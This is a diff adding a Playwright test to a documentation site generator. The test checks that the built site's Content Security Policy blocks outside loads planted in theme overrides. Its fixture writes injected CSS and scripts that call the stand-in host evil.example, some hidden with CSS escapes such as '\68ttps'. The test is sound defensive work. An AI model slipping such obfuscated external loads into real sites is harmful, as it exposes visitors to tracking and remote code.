@@ -290,3 +290,43 @@ def test_printed_pages_carry_the_version_and_no_navigation(base_url, page, tmp_p
     for number, text in enumerate(pages, start=1):
         assert "Version 2.0 en vigueur" in text, f"printed page {number} lacks the version"
         assert "Parcours d'intégration" not in text, f"printed page {number} shows the navigation"
+
+
+def test_nothing_a_theme_holds_loads_from_outside(browser, tmp_path):
+    """The overrides of a theme are the team's own HTML, scripts included; the page's security policy makes the
+    browser refuse whatever they would load from outside, in forms a check of the built files could miss."""
+    from generator.commands import build
+    from generator.resources import scaffold_dir
+
+    from .conftest import copy_playbook
+    root = copy_playbook(scaffold_dir("en"), tmp_path / "themed")
+    with (root / "site_config.yml").open("a", encoding="utf-8") as config:
+        config.write("theme_dir: theme\n")
+    overrides = root / "theme" / "overrides"
+    (overrides / "assets").mkdir(parents=True)
+    (overrides / "assets" / "x.css").write_text(
+        "body{border-image:url(\\68ttps://evil.example/esc.png) 30}\n"
+        "@font-face{font-family:z;src:url('\\68ttps://evil.example/f.woff')}\n.md-typeset{font-family:z}\n",
+        encoding="utf-8")
+    (overrides / "main.html").write_text(
+        '{% extends "base.html" %}\n{% block extrahead %}{{ super() }}<link rel="stylesheet" href="{{ \'assets/x.css\' '
+        '| url }}"><style>body{background-image:image-set("https://evil.example/i.png" 1x)}</style>'
+        '<script>fetch("https://evil.example/fetch").catch(function(){})</script>'
+        '<script type="module">import "https://evil.example/mod.js";</script>{% endblock %}\n', encoding="utf-8")
+    site = build.run(root).output
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(site)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    url = f"http://127.0.0.1:{server.server_address[1]}/"
+    context = browser.new_context()
+    page = context.new_page()
+    outside = []
+    page.on("requestfailed", lambda r: outside.append((r.url, r.failure)) if not r.url.startswith(url) else None)
+    page.on("requestfinished", lambda r: outside.append((r.url, "sent")) if not r.url.startswith(url) else None)
+    try:
+        page.goto(url + "index.html")
+        page.wait_for_timeout(800)
+    finally:
+        context.close()
+        server.shutdown()
+    # each was refused by the browser itself (the page's security policy), before any network
+    assert outside and all(failure == "csp" for _, failure in outside), outside
